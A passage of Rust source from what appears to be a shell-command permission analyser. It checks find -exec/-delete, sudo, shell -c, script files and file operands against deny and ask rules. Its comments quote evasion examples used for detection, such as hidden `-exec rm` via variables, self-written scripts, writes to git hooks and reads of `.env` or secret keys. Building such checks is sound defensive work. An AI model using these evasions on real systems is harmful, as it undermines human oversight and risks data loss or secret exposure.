                "-I" => replace = f.value.as_ref().and_then(|v| v.literal.clone()),
                "-i" | "--replace" => {
                    replace = Some(
                        f.value
                            .as_ref()
                            .and_then(|v| v.literal.clone())
                            .unwrap_or_else(|| "{}".into()),
                    )
                }
                _ => {}
            }
        }
        let mut inner: Vec<WordVal> = argv[start..].to_vec();
        if inner.is_empty() {
            inner.push(WordVal::literal("echo"));
        }
        match &replace {
            Some(r) if !r.is_empty() => {
                for w in &mut inner {
                    if w.raw.contains(r.as_str()) {
                        w.literal = None;
                    }
                }
            }
            _ => self.open_tail = true,
        }
        self.outer.push(self.text(argv));
        self.argv(inner);
        self.outer.pop();
        self.open_tail = false;
    }

    fn find(&mut self, argv: &[WordVal]) {
        let mut i = 1;
        let mut whole_known = true;
        let mut deletes = false;
        let mut computed = false;
        while i < argv.len() {
            let Some(lit) = argv[i].literal.clone() else {
                // A word computed at run time is the value of the test
                // before it (`-name "$x"`), or may itself be an action:
                // `X='-exec rm {} +'; find . $X`.
                let value = argv[i - 1].literal.as_deref().is_some_and(|prev| {
                    i > 1 && (FIND_TESTS_WITH_VALUE.contains(&prev) || prev.starts_with("-newer"))
                });
                computed |= !value;
                i += 1;
                continue;
            };
            match lit.as_str() {
                "-exec" | "-execdir" | "-ok" | "-okdir" => {
                    let start = i + 1;
                    let mut end = None;
                    let mut j = start;
                    while j < argv.len() {
                        match argv[j].literal.as_deref() {
                            Some(";") => {
                                end = Some(j);
                                break;
                            }
                            Some("+") if j > start && argv[j - 1].raw == "{}" => {
                                end = Some(j);
                                break;
                            }
                            _ => j += 1,
                        }
                    }
                    let Some(end) = end else {
                        whole_known = false;
                        break;
                    };
                    let mut inner: Vec<WordVal> = argv[start..end].to_vec();
                    let roots = find_roots(argv);
                    for w in &mut inner {
                        if w.raw.contains("{}") {
                            w.literal = None;
                        }
                    }
                    let saved_roots = self.find_roots.replace(roots);
                    if inner.is_empty() {
                        whole_known = false;
                    } else if lit.ends_with("dir") {
                        let saved = std::mem::replace(&mut self.cwds, Cwds::Unknown);
                        self.argv(inner);
                        self.cwds = saved;
                    } else {
                        self.argv(inner);
                    }
                    self.find_roots = saved_roots;
                    i = end + 1;
                }
                "-delete" => {
                    deletes = true;
                    // Removes what it finds, as `-exec rm -rf {} +` would:
                    // deny and ask rules for `rm` apply; what it removes is
                    // an edit under its starting points (below).
                    self.outer.push(self.text(argv));
                    self.open_tail = true;
                    self.emit_as(
                        &[WordVal::literal("rm"), WordVal::literal("-rf")],
                        Some("find -delete removes only what it finds, and that was checked as edits"),
                    );
                    self.open_tail = false;
                    self.outer.pop();
                    i += 1;
                }
                "-fprint" | "-fprint0" | "-fls" | "-fprintf" => {
                    if let Some(file) = argv.get(i + 1).cloned() {
                        self.edit_target(&file);
                    }
                    i += if lit == "-fprintf" { 3 } else { 2 };
                }
                _ => i += 1,
            }
        }
        self.emit(argv);
        if deletes {
            // What it deletes lies under its starting points.
            for start in &find_roots(argv) {
                self.writes_inside(start);
            }
        }
        if !whole_known {
            let text = self.text(argv);
            self.uncertain(
                UncertainKind::Command,
                &text,
                "find -exec without its terminating `;` or `+`",
            );
        } else if computed {
            let text = self.text(argv);
            self.uncertain(
                UncertainKind::Command,
                &text,
                "a word of find's expression is computed at run time, and may be -exec or -delete",
            );
        }
    }

    fn wrapper_sudo(&mut self, argv: &[WordVal], base: &str) {
        let spec = if base == "doas" {
            Spec {
                flags: "nsL",
                with_arg: "uC",
                ..Spec::default()
            }
        } else {
            Spec {
                flags: "AbEHiKklnPSsVve",
                with_arg: "CDghpRrtTUu",
                long_flags: &[
                    "--askpass",
                    "--background",
                    "--preserve-env",
                    "--set-home",
                    "--login",
                    "--remove-timestamp",
                    "--reset-timestamp",
                    "--list",
                    "--non-interactive",
                    "--preserve-groups",
                    "--stdin",
                    "--shell",
                    "--version",
                    "--validate",
                    "--edit",
                ],
                long_with_arg: &[
                    "--close-from",
                    "--chdir",
                    "--group",
                    "--host",
                    "--prompt",
                    "--chroot",
                    "--role",
                    "--type",
                    "--command-timeout",
                    "--other-user",
                    "--user",
                ],
                ..Spec::default()
            }
        };
        let (mut start, found) = match skip_options(argv, 1, &spec) {
            Ok(x) => x,
            Err(opt) => return self.unknown_option(argv, &opt),
        };
        let special = found.iter().any(|f| {
            matches!(
                f.name,
                "-e" | "--edit"
                    | "-l"
                    | "--list"
                    | "-v"
                    | "--validate"
                    | "-k"
                    | "-K"
                    | "-V"
                    | "--version"
                    | "--remove-timestamp"
                    | "--reset-timestamp"
            )
        });
        let mut chdir: Option<WordVal> = None;
        for f in &found {
            if f.name == "-D" || f.name == "--chdir" {
                chdir = f.value.clone();
            }
        }
        while let Some(lit) = argv.get(start).and_then(|w| w.literal.clone()) {
            match lit.split_once('=') {
                Some((name, value)) if words::is_name(name) => {
                    self.variable_set(name, Some(&WordVal::literal(value)));
                    start += 1;
                }
                _ => break,
            }
        }
        if special || start >= argv.len() {
            // sudoedit, listing, a login shell: the sudo command itself.
            self.emit(argv);
            let shell = found
                .iter()
                .any(|f| matches!(f.name, "-s" | "--shell" | "-i" | "--login"));
            if !special && shell {
                // It reads its commands from the input.
                self.opaque(
                    argv,
                    "it starts a shell whose commands are not written here",
                );
            }
            return;
        }
        self.privileged.push(self.text(argv));
        let saved = self.cwds.clone();
        if let Some(dir) = chdir {
            self.cwds = self.cwds_after_cd(dir.literal.as_deref(), dir.tilde);
        }
        self.unwrap(argv, start);
        self.cwds = saved;
        self.privileged.pop();
    }

    fn shell(&mut self, argv: &[WordVal]) {
        let base = argv
            .first()
            .and_then(|w| w.literal.as_deref())
            .map(basename)
            .unwrap_or_default()
            .to_string();
        let mut i = 1;
        let mut command_mode = false;
        // `-s`: the commands come from the input, the words are arguments.
        let mut stdin_mode = false;
        // Why the shell runs startup files (or code given by an option).
        let mut startup: Option<String> = None;
        while let Some(w) = argv.get(i) {
            let Some(lit) = &w.literal else { break };
            if lit == "--" || lit == "-" {
                i += 1;
                break;
            }
            if let Some(long) = lit.strip_prefix("--") {
                let name = long.split_once('=').map_or(long, |(n, _)| n);
                match name {
                    "rcfile" | "init-file" | "init-command" => {
                        startup.get_or_insert_with(|| format!("`{lit}` runs code from a file"));
                        i += if long.contains('=') { 1 } else { 2 };
                    }
                    "login" | "interactive" | "debugger" => {
                        startup.get_or_insert_with(|| {
                            format!("`{lit}` makes the shell run its startup files")
                        });
                        i += 1;
                    }
                    "norc" | "noprofile" | "no-rcs" | "no-config" | "posix" | "noediting"
                    | "restricted" | "verbose" | "version" | "help" | "dump-strings"
                    | "dump-po-strings" | "pretty-print" | "no-execute" | "private" => {
                        i += 1;
                    }
                    _ => {
                        startup.get_or_insert_with(|| {
                            format!("unknown option `{lit}` of `{base}`: it may run startup files")
                        });
                        i += 1;
                    }
                }
                continue;
            }
            if (lit.starts_with('-') || lit.starts_with('+')) && lit.len() > 1 {
                let minus = lit.starts_with('-');
                let letters = &lit[1..];
                command_mode |= minus && letters.contains('c');
                stdin_mode |= minus && letters.contains('s');
                if minus && (letters.contains('i') || letters.contains('l')) {
                    startup.get_or_insert_with(|| {
                        format!("`{lit}` makes an interactive or login shell, which runs its startup files")
                    });
                }
                if base == "fish" && letters.contains('C') {
                    startup.get_or_insert_with(|| format!("`{lit}` runs an init command"));
                }
                let takes_arg = letters.contains('o') || letters.contains('O');
                if letters.contains('O') {
                    // `bash -O nocaseglob -c …`: a `shopt` before the script.
                    self.glob_options_changed = true;
                }
                if takes_arg {
                    let value = argv.get(i + 1).map(|v| v.literal.as_deref());
                    if let Some(Some("interactive" | "login") | None) = value {
                        startup.get_or_insert_with(|| {
                            format!("`{lit}` may make an interactive or login shell")
                        });
                    }
                }
                i += if takes_arg { 2 } else { 1 };
                continue;
            }
            break;
        }
        if !command_mode {
            // A script file, stdin or an interactive shell: the command
            // itself, and the file's commands when they can be read now.
            self.emit(argv);
            if startup.is_none()
                && !stdin_mode
                && let Some(file) = argv.get(i).cloned()
                && self.script_file(argv, &file, true)
            {
                return;
            }
            return self.opaque(
                argv,
                "the shell runs commands from a file or its input, which are not written here",
            );
        }
        if let Some(why) = startup {
            // The command itself must be allowed (as for `bash FILE`), and
            // what the startup files do cannot be checked.
            self.emit(argv);
            self.not_written_here(argv, &format!("{why}, whose commands are not written here"));
        }
        match argv.get(i) {
            Some(WordVal {
                literal: Some(script),
                ..
            }) => {
                let script = script.clone();
                self.nested_script(argv, &script);
            }
            Some(w) => {
                let raw = w.raw.clone();
                self.unseen_shell_code(
                    UncertainKind::Command,
                    &raw,
                    "the shell runs a script computed at run time",
                );
            }
            // `… | xargs sh -c`: the script is the first word xargs adds.
            None if self.open_tail => {
                let text = self.text(argv);
                self.unseen_shell_code(
                    UncertainKind::Command,
                    &text,
                    "the shell runs a script that xargs (or find) gives it at run time",
                );
            }
            None => self.emit(argv),
        }
    }

    /// Analyse the shell script in `file` as run by `argv` (`bash x.sh`,
    /// `source env.sh`, `./build.sh`), as if its commands were written here;
    /// false when its text cannot be known now: it is not a literal path,
    /// cannot be read, is over 64 KiB or not text, or something earlier in
    /// this command may have written it (only `cd`, `echo`, `ls` and the
    /// like may come before, and no redirection or file-changing program).
    /// What runs is the file as it is when the check reads it.
    ///
    /// Its commands meet the deny and ask rules but need no allow rule of
    /// their own (running the file was allowed as a command), and the files
    /// it writes meet the Edit deny and ask rules only. With
    /// `keep_uncertain` false (a script run by its path, which was never
    /// asked about before), what cannot be known inside it is left out:
    /// only what it certainly runs or touches counts.
    pub(super) fn script_file(
        &mut self,
        argv: &[WordVal],
        file: &WordVal,
        keep_uncertain: bool,
    ) -> bool {
        const MAX_SCRIPT: u64 = 64 * 1024;
        let Some(lit) = file.literal.as_deref().filter(|_| !file.glob) else {
            return false;
        };
        if self.written_before() {
            return false;
        }
        let Ok(paths) = self.resolve_word_path(lit, file.tilde, false) else {
            return false;
        };
        let mut texts: Vec<String> = Vec::new();
        for path in &paths {
            match std::fs::metadata(&path.canonical) {
                Err(e) if e.kind() == std::io::ErrorKind::NotFound => continue,
                // A FIFO, a device or a directory: not text to read now.
                Ok(m) if m.is_file() => {}
                _ => return false,
            }
            let text = std::fs::File::open(&path.canonical).and_then(|f| {
                use std::io::Read as _;
                let mut text = String::new();
                f.take(MAX_SCRIPT + 1).read_to_string(&mut text)?;
                Ok(text)
            });
            match text {
                Ok(text) if (text.len() as u64) <= MAX_SCRIPT && !text.contains('\0') => {
                    if !texts.contains(&text) {
                        texts.push(text);
                    }
                }
                _ => return false,
            }
        }
        if texts.is_empty() {
            return false;
        }
        let start = self.items.len();
        for text in texts {
            self.nested_script(argv, &text);
        }
        let inside = self.items.split_off(start);
        for item in inside {
            if let Item::Edit { written, path } = &item {
                // The protected paths hold for a script's writes too.
                self.items.push(Item::Written {
                    written: written.clone(),
                    path: path.clone(),
                });
            }
            let item = match item {
                Item::Command(mut c) => {
                    c.checked_elsewhere = c.checked_elsewhere.or(Some(
                        "it runs in a script file, and running the file was allowed as a command",
                    ));
                    Item::Command(c)
                }
                Item::Edit { written, path } => Item::Touch {
                    family: Family::Edit,
                    written,
                    path,
                    recursive: false,
                },
                Item::EditInside { written, path, .. } => Item::EditInside {
                    written,
                    path,
                    restrict_only: true,
                },
                Item::Uncertain { .. } if !keep_uncertain => continue,
                // What runs or is written inside cannot be known: as the
                // file was before it could be read, it matters only where
                // deny or ask rules could be got around through it.
                Item::Uncertain {
                    kind: UncertainKind::Command | UncertainKind::Edit,
                    snippet,
                    reason,
                } => Item::Uncertain {
                    kind: UncertainKind::Opaque,
                    snippet,
                    reason,
                },
                other => other,
            };
            self.items.push(item);
        }
        true
    }

    /// Whether something earlier in this command may have written a file:
    /// a command other than `cd`, `echo`, `ls`, one that only reads (`git
    /// status`, `cat f`) and the like, a redirection, a program's output
    /// option (the simple command last emitted, the one that runs the file,
    /// aside, and the program whose option runs it: see
    /// [`Analyzer::option_script`]).
    pub(super) fn written_before(&self) -> bool {
        const SAFE_BEFORE: &[&str] = &[
            "cd", "pushd", "popd", "chdir", "echo", "printf", "true", "false", "test", "[", "[[",
            "ls", "pwd", "export", "set", "unset", "which", "type", "sleep", "date", "uname", "id",
            "whoami",
        ];
        let before = self
            .items
            .get(..self.command_start)
            .unwrap_or(&self.items[..]);
        let runner = self.option_runner.clone().unwrap_or_default();
        before.iter().enumerate().any(|(k, item)| match item {
            _ if runner.contains(&k) => false,
            Item::Command(c) => {
                !c.guessed
                    && c.equivalent.is_none()
                    && c.read_only == super::read_only::ReadOnly::No
                    && !SAFE_BEFORE.contains(&c.base.as_str())
            }
            Item::Edit { .. }
            | Item::EditInside { .. }
            | Item::Written { .. }
            | Item::Removal { .. } => true,
            Item::Touch { family, .. } => *family != Family::Read,
            Item::Uncertain { kind, .. } => !matches!(
                kind,
                UncertainKind::Touch(Family::Read) | UncertainKind::Host
            ),
            Item::Host { .. }
            | Item::Input { .. }
            | Item::GitContent { .. }
            | Item::ReadVisible { .. }
            | Item::ReadNarrowed { .. } => false,
        })
    }

    /// `./build.sh`, `/path/to/x.sh`: a program named by its path that is a
    /// shell script (its `#!` names sh, bash, dash, ksh or mksh, directly or
    /// through `env`; or it has none, and the shell runs it itself) is
    /// analysed as `bash FILE` would be (see [`Analyzer::script_file`]).
    pub(super) fn run_script_file(&mut self, argv: &[WordVal]) -> bool {
        let Some(program) = argv.first() else {
            return false;
        };
        let Some(lit) = program.literal.as_deref() else {
            return false;
        };
        if !lit.contains('/') {
            return false;
        }
        let paths = self.resolve_word_path(lit, program.tilde, false);
        // `cd a && ../x.sh`: `cd` may fail, so either file may be the one
        // run; one that does not exist runs nothing.
        let shell_script = paths.as_ref().is_ok_and(|paths| {
            paths.iter().any(|p| {
                // A regular file only: opening a FIFO would wait for a
                // writer.
                if !std::fs::metadata(&p.canonical).is_ok_and(|m| m.is_file()) {
                    return false;
                }
                let mut head = [0u8; 128];
                let n = std::fs::File::open(&p.canonical)
                    .and_then(|mut f| {
                        use std::io::Read as _;
                        f.read(&mut head)
                    })
                    .unwrap_or(0);
                n > 0 && is_shell_script(&head[..n])
            })
        });
        if self.written_before() {
            // `echo 'rm -rf x' > s.sh; ./s.sh`: what it runs is not what
            // the file holds now. A program like any other (`make &&
            // ./a.out`), whose hosts are the sandbox's to hold; but a shell
            // script now (`mkdir b && ./up.sh`) is code whose hosts would
            // be read if it ran alone: unread, it may reach any host.
            let reason = "it runs a file that an earlier part of this command may have written, so its commands cannot be read now";
            self.not_written_here(argv, reason);
            if shell_script {
                let text = self.text(argv);
                self.uncertain(
                    UncertainKind::Host,
                    &text,
                    format!("{reason}, and what they run may reach any host"),
                );
            }
            return true;
        }
        shell_script && self.script_file(argv, program, false)
    }

    /// The command a program's option runs (`git fetch --upload-pack=CMD`,
    /// `git -c core.sshCommand=CMD`, `ssh -o ProxyCommand=CMD`, `scp -S
    /// CMD`, `rsync -e CMD`): analysed as a command line run by that
    /// program, whose own items (its command, its operands) are no
    /// earlier part that may have written a file the command runs
    /// (`./up.sh` is read as when it runs alone).
    pub(super) fn option_script(&mut self, argv: &[WordVal], script: &str) {
        let runner = self.simple_start..self.items.len();
        let saved = self.option_runner.replace(runner);
        self.nested_script(argv, script);
        self.option_runner = saved;
    }

    /// Analyse `script` as run by the command `argv` (`bash -c`, `eval`, …).
    pub(super) fn nested_script(&mut self, argv: &[WordVal], script: &str) {
        self.outer.push(self.text(argv));
        self.script(script);
        self.outer.pop();
    }

    fn change_dir(&mut self, argv: &[WordVal], base: &str) {
        let operands: Vec<&WordVal> = argv[1..]
            .iter()
            .filter(|w| {
                !w.literal
                    .as_deref()
                    .is_some_and(|l| matches!(l, "-L" | "-P" | "-e" | "-@" | "--"))
            })
            .collect();
        let target = operands.first().copied().cloned();
        self.emit(argv);
        self.cd_seen += 1;
        self.cwds = match (base, target) {
            ("popd", _) => Cwds::Unknown,
            (_, None) => self.cwds_after_cd(Some("~"), true),
            (_, Some(t)) => {
                let next = if t.glob {
                    Cwds::Unknown
                } else {
                    self.cwds_after_cd(t.literal.as_deref(), t.tilde)
                };
                match (&self.cwds, next) {
                    (Cwds::Known(old), Cwds::Known(new)) => {
                        // `cd` may fail: the shell is in either directory.
                        let mut all = old.clone();
                        for d in new {
                            if !all.contains(&d) {
                                all.push(d);
                            }
                        }
                        if all.len() > MAX_CWDS {
                            Cwds::Unknown
                        } else {
                            Cwds::Known(all)
                        }
                    }
                    _ => Cwds::Unknown,
                }
            }
        };
    }

    /// The possible directories after changing to `target`.
    pub(super) fn cwds_after_cd(&self, target: Option<&str>, tilde: bool) -> Cwds {
        let Some(target) = target else {
            return Cwds::Unknown;
        };
        if target == "-" || target.starts_with('+') || (target.starts_with('-') && target.len() > 1)
        {
            return Cwds::Unknown;
        }
        let path: PathBuf = if tilde {
            match &self.home {
                Some(h) => h.join(target.trim_start_matches('~').trim_start_matches('/')),
                None => return Cwds::Unknown,
            }
        } else {
            PathBuf::from(target)
        };
        let bases: Vec<PathBuf> = if path.is_absolute() {
            vec![PathBuf::from("/")]
        } else {
            match &self.cwds {
                Cwds::Known(d) => d.clone(),
                Cwds::Unknown => return Cwds::Unknown,
            }
        };
        let mut out = Vec::new();
        for b in bases {
            // Logical (`cd` default) and physical (`cd -P`) results.
            let logical = paths::lexical(&path, &b);
            if let Ok(p) = self.resolver.resolve(&path, &b)
                && p.canonical != logical
            {
                out.push(p.canonical);
            }
            out.push(logical);
        }
        Cwds::Known(out)
    }

    /// Emit a simple command (after unwrapping).
    pub(super) fn emit(&mut self, argv: &[WordVal]) {
        self.emit_as(argv, None);
    }

    /// Emit a simple command; `checked_elsewhere` when it needs no allow
    /// rule of its own (see [`Command::checked_elsewhere`]).
    fn emit_as(&mut self, argv: &[WordVal], checked_elsewhere: Option<&'static str>) {
        self.command_start = self.items.len();
        let extra_forms = std::mem::take(&mut self.extra_forms);
        let checked_elsewhere = checked_elsewhere.or_else(|| {
            (self.runner_depth > 0).then_some(
                "a package runner runs it, and the runner's own command was allowed as written",
            )
        });
        let Some(name) = argv.first().and_then(|w| w.literal.clone()) else {
            return;
        };
        let base = basename(&name).to_string();
        let mut text = String::new();
        let mut plain = String::new();
        let mut raw = String::new();
        let mut dynamic_prefix = None;
        for (i, w) in argv.iter().enumerate() {
            if i > 0 {
                text.push(' ');
                plain.push(' ');
                raw.push(' ');
            }
            match &w.literal {
                Some(l) => {
                    text.push_str(&quote(l));
                    plain.push_str(l);
                }
                None => {
                    if dynamic_prefix.is_none() {
                        dynamic_prefix = Some(text.clone());
                    }
                    text.push_str(&w.raw);
                    plain.push_str(&w.raw);
                }
            }
            raw.push_str(&w.raw);
        }
        let open_tail = std::mem::take(&mut self.open_tail);
        if open_tail {
            if dynamic_prefix.is_none() {
                dynamic_prefix = Some(format!("{text} "));
            }
            text.push_str(" …");
            plain.push_str(" …");
            raw.push_str(" …");
        }
        let mut basename_forms = extra_forms;
        // The same program under its versioned names: `python3.11` is
        // python3 and python, `perl5.36.0` perl, `gcc-12` gcc.
        let unversioned = unversioned_names(&base);
        if base != name || !unversioned.is_empty() {
            let quoted_name = quote(&name);
            for form in [&text, &plain] {
                let stripped = form
                    .strip_prefix(quoted_name.as_str())
                    .or_else(|| form.strip_prefix(name.as_str()));
                if let Some(rest) = stripped {
                    if base != name {
                        basename_forms.push(format!("{base}{rest}"));
                    }
                    for stem in &unversioned {
                        basename_forms.push(format!("{stem}{rest}"));
                    }
                }
            }
        }
        // `cp -t../out a`, `mv -vtsrc x`: the target directory attached.
        let split = split_target_directory(&base, argv);
        let path_args = self.path_args(&base, split.as_deref().unwrap_or(argv));
        if self.touches
            && WRITE_COMMANDS.contains(&base.as_str())
            && self.expands_to_option(&base, argv)
        {
            // `cp * dest` where a file is named `-t..`: the target, or any
            // other option, comes from a name on disk.
            self.uncertain(
                UncertainKind::Edit,
                &self.text(argv),
                "a pattern expands to a name the program reads as an option (a file named `-t…` sets where it writes)",
            );
        }
        let named_by_path = argv
            .first()
            .and_then(|w| w.literal.as_deref())
            .is_some_and(|n| n.contains('/') && !wrappers::in_system_dir(n));
        let read_only = match super::read_only::read_only(&base, argv) {
            // More operands come at run time; git may run the hooks of a
            // repository it was moved into (`cd vendor/x && git status`).
            _ if open_tail => ReadOnly::No,
            // `./ls`, `bin/cat`: whatever file has that name, not the
            // system's program.
            _ if named_by_path => ReadOnly::No,
            ReadOnly::Files if self.expands_to_option(&base, argv) => ReadOnly::No,
            ReadOnly::Files if base == "git" && !self.in_start_dir() => ReadOnly::No,
            // A directory here made to look like a bare repository: git
            // reads its `config` (and runs what it names) before any `.git`.
            ReadOnly::Files
                if base == "git" && crate::safeguard::bare_git_directory_above(&self.start) =>
            {
                ReadOnly::No
            }
            r => r,
        };
        if open_tail && self.touches && reads::is_reader(&base) {
            // `… | xargs cat`: the files come from the input.
            self.uncertain(
                UncertainKind::Touch(Family::Read),
                &text,
                "it reads files named only at run time (its further arguments)",
            );
        }
        self.note_relinks(&base, argv);
        if base == "ln" && self.touches {
            self.symlink_targets(argv);
        }
        self.push(Item::Command(Command {
            base,
            text,
            raw,
            plain,
            basename_forms,
            outer: self.outer.clone(),
            privileged: self.privileged.clone(),
            dynamic_prefix,
            path_args,
            checked_elsewhere,
            read_only,
            equivalent: None,
            guessed: false,
        }));
        self.urls_in_words(argv);
    }

    /// The forms of the command `argv` amounts to (see [`equivalents`]),
    /// for the deny and ask rules.
    pub(super) fn emit_equivalents(&mut self, argv: &[WordVal], forms: Vec<equivalents::Form>) {
        if forms.is_empty() {
            return;
        }
        self.outer.push(self.text(argv));
        for f in forms {
            let Some(base) = f.words.first().and_then(|w| w.literal.clone()) else {
                continue;
            };
            let text = text_of(&f.words);
            let mut plain = String::new();
            let mut dynamic_prefix = None;
            for (i, w) in f.words.iter().enumerate() {
                if i > 0 {
                    plain.push(' ');
                }
                match &w.literal {
                    Some(l) => plain.push_str(l),
                    None => {
                        if dynamic_prefix.is_none() {
                            dynamic_prefix = Some(plain.clone());
                        }
                        plain.push_str(&w.raw);
                    }
                }
            }
            let raw = f
                .words
                .iter()
                .map(|w| w.raw.as_str())
                .collect::<Vec<_>>()
                .join(" ");
            self.push(Item::Command(Command {
                base,
                text,
                raw,
                plain,
                basename_forms: Vec::new(),
                outer: self.outer.clone(),
                privileged: self.privileged.clone(),
                dynamic_prefix,
                path_args: None,
                checked_elsewhere: Some(
                    "it is the form of the command written, which was checked as written",
                ),
                read_only: ReadOnly::No,
                equivalent: Some(f.why),
                guessed: false,
            }));
        }
        self.outer.pop();
    }

    /// Operands that look like paths: checked as touched (Read, and Edit
    /// for file-changing commands); returned resolved when all are known.
    fn path_args(
        &mut self,
        base: &str,
        argv: &[WordVal],
    ) -> Option<Vec<crate::paths::ResolvedPath>> {
        let writes = WRITE_COMMANDS.contains(&base);
        // A program not known to leave what it is given alone may change it.
        let may_write = !writes && !reads::leaves_alone(base);
        let needed_by_mode = matches!(
            base,
            "cd" | "pushd" | "chdir" | "mkdir" | "touch" | "mv" | "cp"
        ) || super::read_only::reads_files(base);
        let editor = reads::is_editor(base);
        if !self.touches && !needed_by_mode && !writes && !editor {
            return None;
        }
        // What it changes, for the safeguards (whatever the rules).
        let written_operands = super::removals::written_operands(base, argv);
        let removes = matches!(base, "rm" | "rmdir");
        // A file it only creates or changes the mode of may still be a
        // protected one (`cp x "$PWD/.git/hooks/pre-commit"`, as `> "$F"`).
        let creates = writes && !matches!(base, "rm" | "rmdir" | "unlink" | "shred" | "mkdir");
        // The operands it writes without reading them (`cp`'s destination,
        // `dd of=`), and programs that open none of theirs: not a read.
        // A backup keeps what the destination held under another name
        // (`cp -b x .env` leaves `.env~`): that is a read of it.
        let backs_up = argv[1..].iter().any(|w| {
            w.literal.as_deref().is_some_and(|l| {
                l.starts_with("--backup")
                    || l.starts_with("--suffix")
                    || (l.starts_with('-') && !l.starts_with("--") && l.contains(['b', 'S']))
            })
        });
        let destination_only = matches!(base, "cp" | "install" | "ln" | "dd") && !backs_up;
        let looks_only = reads::looks_only(base, argv);
        let mut all = Some(Vec::new());
        let mut operands_done = false;
        if (WRITE_COMMANDS.contains(&base) || !reads::leaves_alone(base))
            && argv[1..]
                .iter()
                .any(|w| matches!(w.literal.as_deref(), Some("/dev/stdin" | "/dev/fd/0")))
        {
            // `cp a /dev/stdin < f` writes f: the input is reopened.
            for f in self.input_files.clone() {
                self.edit_target(&f);
            }
        }
        let mut operand_count = 0usize;
        let reach = reads::reach(base, argv);
        let recursive = reach != reads::Reach::Named;
        let visible_only = recursive && reads::skips_hidden(base, argv);
        // Without `-L` ripgrep also passes over the links it meets.
        let ignores =
            visible_only && reads::respects_ignore_files(argv) && !reads::follows_links(base, argv);
        // `rg -g '*.rs'`, `grep -r --exclude=.env`: what a walk reads is
        // narrowed by the program's own filters, whose words are patterns.
        let (names, patterns) = match reads::name_filter(base, argv) {
            Some((names, patterns)) if recursive => (Some(names), patterns),
            Some((_, patterns)) => (None, patterns),
            None => (None, Vec::new()),
        };
        let mut non_paths = reads::leading_non_paths(base, argv);
        // The read-only set knows its programs' options: the files they
        // read, attached to an option (`-f.env`) or not.
        let slots = super::read_only::path_words(base, argv);
        let reader = reads::is_reader(base);
        for (i, w) in argv.iter().enumerate().skip(1) {
            if self.is_full() {
                return None;
            }
            if patterns.contains(&i) {
                continue;
            }
            let Some(lit) = &w.literal else {
                all = None;
                if removes {
                    self.removal(w);
                }
                if self.touches && w.raw == "{}" && self.find_roots.is_some() {
                    // `find ROOTS … -exec cat {} +`: files under the roots.
                    for root in self.find_roots.clone().unwrap_or_default() {
                        self.touch_inside(&root);
                    }
                } else if self.touches && reader {
                    self.uncertain(
                        UncertainKind::Touch(Family::Read),
                        &w.raw,
                        "a file it reads is named only at run time",
                    );
                }
                let written = if base == "dd" {
                    w.raw.starts_with("of=")
                } else {
                    written_operands.as_ref().is_none_or(|ops| ops.contains(&i))
                };
                if writes && (self.touches || (creates && written)) {
                    // `rm "$F"`: deny and ask rules cannot see the file;
                    // `cp x "$D"`: nor can the protected paths.
                    self.uncertain(
                        UncertainKind::Edit,
                        &w.raw,
                        "a file it changes is named only at run time",
                    );
                    self.computed_protected(&w.raw);
                } else if may_write && self.touches {
                    // `prettier --write "$F"`, `xargs -I{} black {}`.
                    self.uncertain(
                        UncertainKind::Touch(Family::MaybeEdit),
                        &w.raw,
                        "a file given to a program that may change it is named only at run time",
                    );
                }
                continue;
            };
            let candidate: &str = if let Some(slots) = &slots {
                match slots.named.iter().find(|(k, _)| *k == i) {
                    Some((_, file)) => file,
                    None => continue,
                }
            } else if !operands_done && lit.starts_with('-') {
                if lit == "--" {
                    operands_done = true;
                    continue;
                }
                match lit.split_once('=') {
                    // `--from-file=k=secrets/key`, `--extra-vars=@vars`: the
                    // value read as the detached one would be.
                    Some((_, v)) if lit.starts_with("--") => {
                        if self.touches && (v.starts_with('@') || v.contains('=')) {
                            self.attached_reads(v, may_write);
                        }
                        v
                    }
                    _ => {
                        if self.touches {
                            self.attached_reads(lit, may_write);
                        }
                        continue;
                    }
                }
            } else if base == "dd" {
                match lit.split_once('=') {
                    Some((_, v)) => v,
                    None => lit,
                }
            } else {
                operand_count += 1;
                if operand_count <= non_paths {
                    // grep's pattern, not a file.
                    continue;
                }
                if self.touches && (lit.starts_with('@') || lit.contains('=')) {
                    self.attached_reads(lit, may_write);
                }
                lit
            };
            // A local file spelled as a URL or with a program's prefix
            // (`file://secrets/key` to aws, `fileb://k`, `file:///abs`,
            // openssl's `file:k`, rclone's `:local:k`) is that file.
            let local = local_file_of(candidate);
            let candidate: &str = local.as_deref().unwrap_or(candidate);
            if candidate.is_empty() || candidate.contains("://") || is_exempt_device(candidate) {
                continue;
            }
            if removes && candidate == lit.as_str() {
                self.removal(w);
            }
            let changed =
                editor || (writes && written_operands.as_ref().is_none_or(|ops| ops.contains(&i)));
            let only_written = changed && destination_only && written_operands.is_some();
            // An option's file (`du --files0-from=F`) is read all the same.
            let looks_at_operand = looks_only && candidate == lit.as_str() && !lit.starts_with('-');
            match self.resolve_word_path(candidate, w.tilde && candidate == lit.as_str(), w.glob) {
                Ok(paths) => {
                    for p in paths {
                        if changed {
                            self.push(Item::Written {
                                written: candidate.to_string(),
                                path: p.clone(),
                            });
                        }
                        if self.is_relinked(&p) {
                            all = None;
                            if self.touches {
                                self.uncertain(
                                    UncertainKind::Edit,
                                    candidate,
                                    "an earlier command may have replaced part of this path by a link",
                                );
                            }
                            continue;
                        }
                        if !self.touches {
                            if let Some(all) = &mut all {
                                all.push(p);
                            }
                            continue;
                        }
                        if only_written || (looks_at_operand && !p.canonical.is_dir()) {
                            // `cp .env.example .env`, `ls .env`, `chmod 600
                            // .env`: nothing of it is read.
                        } else if let Some(names) = &names {
                            self.push(Item::ReadNarrowed {
                                written: candidate.to_string(),
                                path: p.clone(),
                                names: names.clone(),
                            });
                        } else if recursive && visible_only {
                            self.push(Item::ReadVisible {
                                written: candidate.to_string(),
                                path: p.clone(),
                                ignores,
                            });
                        } else {
                            self.push(Item::Touch {
                                family: Family::Read,
                                written: candidate.to_string(),
                                path: p.clone(),
                                recursive,
                            });
                        }
                        if writes || may_write {
                            // A directory given to a program that may
                            // change what it is given (`prettier --write .`,
                            // `black src`) may have any file in it changed.
                            let inside = !writes && self.names_directory(candidate, &p);
                            if !writes && !w.glob && candidate.contains(['*', '?', '[']) {
                                // `prettier --write "src/**/*.ts"`: a
                                // pattern the program expands itself.
                                self.may_change_under_pattern(candidate, w.tilde);
                            }
                            self.push(Item::Touch {
                                family: if writes {
                                    Family::Edit
                                } else {
                                    Family::MaybeEdit
                                },
                                written: candidate.to_string(),
                                path: p.clone(),
                                recursive: inside,
                            });
                        }
                        if let Some(all) = &mut all {
                            all.push(p);
                        }
                    }
                }
